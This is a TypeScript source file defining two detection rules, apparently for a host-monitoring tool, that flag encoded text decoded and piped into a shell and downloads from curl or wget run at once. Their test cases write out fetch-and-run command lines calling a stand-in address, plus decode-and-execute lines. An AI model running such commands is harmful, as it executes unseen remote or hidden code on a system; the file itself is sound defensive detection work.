import { defineRule } from '@cws/core'
import { SHELL, SHELL_PROGRAMS } from '../names.ts'

/** What a text is piped into to be run. */
const RUNNER = `(?:sudo\\s+(?:-\\S+\\s+)*)?(?:env\\s+(?:\\S+=\\S+\\s+)*)?(?:${SHELL}|(?:/\\S*/)?(?:python|perl|ruby|php|node)[\\d.]*\\b)`

export const decoderPipedToShell = defineRule({
  id: 'decoder-piped-to-shell',
  name: 'Encoded text was decoded and run',
  severity: 'high',
  tags: ['mitre:T1140', 'mitre:T1027', 'mitre:T1059.004'],
  on: 'exec',
  where: {
    'exec.file.name': SHELL_PROGRAMS,
    all: [
      { 'exec.args': ['*base64*', '*base32*', '*openssl*', '*xxd*', '*uudecode*'] },
      {
        'exec.args': {
          regex: [
            `\\bbase(?:64|32)\\s[^|;]*-(?:\\w*[dD]|-decode)[^|;]*\\|\\s*${RUNNER}`,
            `\\bopenssl\\s+(?:enc|base64|aes\\S*)\\b[^|;]*\\s-d\\b[^|;]*\\|\\s*${RUNNER}`,
            `\\bxxd\\s[^|;]*-\\w*r[^|;]*\\|\\s*${RUNNER}`,
            `\\buudecode\\b[^|;]*\\|\\s*${RUNNER}`,
            `(?s)(?:\\beval|\\bsource|(?:^|[\\s;&|])\\.|${SHELL}(?:\\s+-c)?)\\s+["']?(?:<\\(|\\$\\(|\`)[^)\`]*\\bbase(?:64|32)\\s[^)\`]*-(?:\\w*[dD]|-decode)`,
          ],
        },
      },
    ],
  },
  message: '{{author}} decodes a text and runs it at once. Encoding hides commands from logs and filters; honest scripts rarely need it.',
  advice: 'Decode the text yourself, without running it, to see what was done.',
  benign: ['Provisioning tools that carry scripts through several layers of quoting'],
  tests: {
    fires: [
      { 'exec.file.name': 'dash', 'exec.args': '-c echo aWQ= | base64 -d | sh' },
      { 'exec.file.name': 'bash', 'exec.args': '-c echo aWQ= | base64 --decode | sudo bash -s' },
      { 'exec.file.name': 'bash', 'exec.args': '-c eval "$(echo aWQ= | base64 -d)"' },
      { 'exec.file.name': 'bash', 'exec.args': '-c bash <(base64 -d /tmp/x)' },
      { 'exec.file.name': 'dash', 'exec.args': '-c openssl enc -aes-256-cbc -d -in x -k y | sh' },
      { 'exec.file.name': 'busybox', 'exec.args': '-c echo 6964 | xxd -r -p | sh' },
      { 'exec.file.name': 'dash', 'exec.args': '-c base64 -d x | python3' },
    ],
    silent: [
      { 'exec.file.name': 'bash', 'exec.args': '-c echo $CERT | base64 -d > /etc/ssl/cert.pem' },
      { 'exec.file.name': 'bash', 'exec.args': '-c kubectl get secret x -o json | jq -r .data.p | base64 -d' },
      { 'exec.file.name': 'dash', 'exec.args': '-c base64 file | mail -s x ops' },
      { 'exec.file.name': 'dash', 'exec.args': '-c openssl x509 -in a.pem -noout' },
      { 'exec.file.name': 'bash', 'exec.args': '' },
    ],
  },
})

export const downloadPipedToShell = defineRule({
  id: 'download-piped-to-shell',
  name: 'A download was run at once',
  severity: 'medium',
  tags: ['mitre:T1105', 'mitre:T1059.004'],
  on: 'exec',
  where: {
    'exec.file.name': SHELL_PROGRAMS,
    all: [
      { 'exec.args': ['*curl*', '*wget*'] },
      {
        'exec.args': {
          regex: [
            `\\b(?:curl|wget)\\s[^|;]*\\|\\s*${RUNNER}`,
            `(?:${SHELL}|\\bsource|(?:^|\\s)\\.|\\beval)\\s+(?:-c\\s+)?["']?(?:<\\(|\\$\\(|\`)\\s*(?:curl|wget)\\b`,
          ],
        },
      },
    ],
  },
  message: '{{author}} runs what a server sends, unseen. Installers do it, and so do most worms and miners.',
  advice: 'See whether you know the address. If not, fetch the script without running it and look at what was done.',
  benign: ['Installers that are meant to be run so', 'Builds of images'],
  tests: {
    fires: [
      { 'exec.file.name': 'dash', 'exec.args': '-c curl -fsSL http://203.0.113.5/x.sh | sh' },
      { 'exec.file.name': 'bash', 'exec.args': '-c wget -q -O- http://203.0.113.5/x | sudo -E bash -' },
      { 'exec.file.name': 'bash', 'exec.args': '-c bash <(curl -s http://203.0.113.5/x)' },
      { 'exec.file.name': 'bash', 'exec.args': '-c sh -c "$(curl -fsSL http://203.0.113.5/x)"' },
      { 'exec.file.name': 'dash', 'exec.args': '-c curl http://203.0.113.5/x|python3' },
    ],
    silent: [
      { 'exec.file.name': 'bash', 'exec.args': '-c curl -fsS https://example.com/health || exit 1' },
      { 'exec.file.name': 'bash', 'exec.args': '-c curl -s https://example.com/v.json | jq .version' },
      { 'exec.file.name': 'dash', 'exec.args': '-c wget -O a.tar.gz https://example.com/a.tar.gz; sh build.sh' },
      { 'exec.file.name': 'dash', 'exec.args': '-c make install' },
    ],
  },
})
